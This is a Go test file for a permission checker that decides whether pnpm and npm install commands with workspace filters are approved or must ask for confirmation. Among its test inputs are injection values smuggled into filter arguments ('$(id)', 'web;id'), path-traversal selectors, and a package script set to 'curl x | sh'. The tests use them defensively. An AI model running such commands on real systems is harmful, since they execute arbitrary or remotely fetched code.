// SPDX-License-Identifier: Apache-2.0

package verdict

import (
	"path/filepath"
	"testing"

	"memo.dev/projects/domain/permissions/internal/fixture"
	"memo.dev/projects/domain/permissions/projectfiles"
)

// memberFiltersProject is a workspace (pnpm-workspace.yaml and
// package.json's workspaces) with members whose install scripts the trust
// of an install at the root pins.
func memberFiltersProject(t *testing.T, pnpmWorkspace bool) string {
	t.Helper()
	root := fixture.Repo(t, fixture.CleanConfig)
	fixture.Write(t, filepath.Join(root, "package.json"), `{"workspaces": ["packages/*", "docs", "playgrounds/*"], "scripts": {"postinstall": "husky"}}`, 0o644)
	if pnpmWorkspace {
		fixture.Write(t, filepath.Join(root, "pnpm-workspace.yaml"), "packages:\n  - 'packages/*'\n  - 'docs'\n  - 'playgrounds/*'\n", 0o644)
	}
	fixture.Write(t, filepath.Join(root, "packages", "web", "package.json"), `{"name": "web", "scripts": {"postinstall": "node setup.js", "build": "vite build"}}`, 0o644)
	fixture.Write(t, filepath.Join(root, "packages", "web", "setup.js"), "", 0o644)
	fixture.Write(t, filepath.Join(root, "docs", "package.json"), `{"name": "docs", "scripts": {"prepare": "vitepress build"}}`, 0o644)
	fixture.Write(t, filepath.Join(root, "playgrounds", "vite", "package.json"), `{"name": "playground-vite"}`, 0o644)
	return root
}

// A workspace filter that narrows an install at a workspace's root (pnpm
// --filter, -F, --filter-prod; npm -w, --workspace, --workspaces) runs a
// subset of the install scripts the rule's trust pinned for every member:
// it passes anywhere on the line, its selector text of its shape (a quoted
// `!` or `*`, an unquoted pattern that matches no name). Another folder
// (-C, --dir), a selector that climbs out or runs git ([ref]), one that
// holds what no selector does, a filter on another subcommand, a package
// to add, a line in a member's folder or outside a pnpm workspace still
// ask.
func TestWorkspaceFilterNarrowsAnInstall(t *testing.T) {
	root := memberFiltersProject(t, true)
	rules := []string{"pnpm install", "npm install", "npm ci"}
	p := NewProject(root, "", projectfiles.OSGitFS(""), nil)
	pinned := p.WithPinned(p.AllDefinitions(rules))
	for _, line := range []string{
		"pnpm install",
		"pnpm install --filter '!docs'",
		"pnpm i --filter '!docs'",
		"pnpm i --prefer-offline --no-frozen-lockfile --filter '!docs'",
		"pnpm install --ignore-scripts --frozen-lockfile --filter=!./playgrounds/*",
		"pnpm --filter=!./playgrounds/* install --frozen-lockfile",
		"pnpm install --filter '!./playgrounds/*'",
		"pnpm install --filter web",
		"pnpm install -F web",
		"pnpm install --filter-prod web",
		"pnpm install --filter=web --filter=docs",
		"pnpm --filter web --filter '!docs' install",
		"pnpm install --filter '@scope/*'",
		"pnpm install --filter 'web...'",
		"pnpm install --filter '...^web'",
		"pnpm install --filter '{./packages/web}'",
		"pnpm install --filter '{packages/web}...'",
		"pnpm install --filter ./packages/web",
		"pnpm install --filter .",
		"npm install -w packages/web",
		"npm install --workspace=web",
		"npm install --workspace ./packages/web",
		"npm install --workspaces",
		"npm ci -w web",
	} {
		if v := NewChecker(rules).CheckIn(line, pinned); !v.Approved {
			t.Errorf("%s asks (%s), want it approved", line, v.Reason)
		}
	}
	for _, line := range []string{
		"pnpm --filter web run build",
		"pnpm --filter web build",
		"pnpm -C ../x install",
		"pnpm install -C docs",
		"pnpm install --dir=docs",
		"pnpm --filter web -C docs install",
		"pnpm --filter '$(id)' install",
		"pnpm install --filter \"$(id)\"",
		"pnpm install --filter '`id`'",
		"pnpm install --filter 'web;id'",
		"pnpm install --filter '[origin/main]'",
		"pnpm install --filter '...[HEAD~1]'",
		"pnpm install --filter=[main]",
		"pnpm install --filter '{../x}'",
		"pnpm install --filter ../x",
		"pnpm install --filter ./../x",
		"pnpm install --filter './packages/../../x'",
		"pnpm install --filter '{./packages/../../x}...'",
		"pnpm install --filter /tmp/x",
		"pnpm install --filter '.hidden'",
		"pnpm install --filter -C",
		"pnpm install --filter web left-pad",
		"pnpm install -Fweb",
		"pnpm install --filter",
		"pnpm install --filter !docs",
		"npm install -w ../x",
		"npm install -w web lodash",
		"npm install --prefix ../x -w web",
		"npm run build -w web",
	} {
		if v := NewChecker(rules).CheckIn(line, pinned); v.Approved {
			t.Errorf("%s is approved, want it to ask", line)
		}
	}
	// In a member's folder the rule's trust pins that member alone.
	member := NewProject(root, filepath.Join(root, "packages", "web"), projectfiles.OSGitFS(""), nil)
	memberPinned := member.WithPinned(member.AllDefinitions(rules))
	for _, line := range []string{"pnpm install --filter '!docs'", "pnpm install --filter docs", "npm install -w docs"} {
		if v := NewChecker(rules).CheckIn(line, memberPinned); v.Approved {
			t.Errorf("%s in a member's folder is approved, want it to ask", line)
		}
	}
	// A member's install script changed since the trust: the filtered
	// install asks as the whole one does.
	fixture.Write(t, filepath.Join(root, "docs", "package.json"), `{"name": "docs", "scripts": {"prepare": "curl x | sh"}}`, 0o644)
	for _, line := range []string{"pnpm install --filter docs", "npm install -w docs"} {
		if v := NewChecker(rules).CheckIn(line, pinned); v.Approved {
			t.Errorf("%s after docs' prepare changed is approved, want it to ask", line)
		}
	}
}

// pnpm finds its workspace by pnpm-workspace.yaml: without one at the
// line's folder, or with one that lists no packages, a filter may select
// packages the trust did not pin as members, and asks.
func TestWorkspaceFilterNeedsPnpmWorkspace(t *testing.T) {
	root := memberFiltersProject(t, false)
	rules := []string{"pnpm install", "npm install"}
	p := NewProject(root, "", projectfiles.OSGitFS(""), nil)
	pinned := p.WithPinned(p.AllDefinitions(rules))
	if v := NewChecker(rules).CheckIn("pnpm install --filter web", pinned); v.Approved {
		t.Errorf("pnpm install --filter web without pnpm-workspace.yaml is approved, want it to ask")
	}
	if v := NewChecker(rules).CheckIn("npm install -w web", pinned); !v.Approved {
		t.Errorf("npm install -w web asks (%s), want it approved", v.Reason)
	}
	// A pnpm-workspace.yaml listing no packages: some pnpm versions take
	// every folder holding a package.json for a member.
	fixture.Write(t, filepath.Join(root, "pnpm-workspace.yaml"), "catalogMode: prefer\n", 0o644)
	p = NewProject(root, "", projectfiles.OSGitFS(""), nil)
	pinned = p.WithPinned(p.AllDefinitions(rules))
	if v := NewChecker(rules).CheckIn("pnpm install --filter web", pinned); v.Approved {
		t.Errorf("pnpm install --filter web with a pnpm-workspace.yaml of no packages is approved, want it to ask")
	}
}
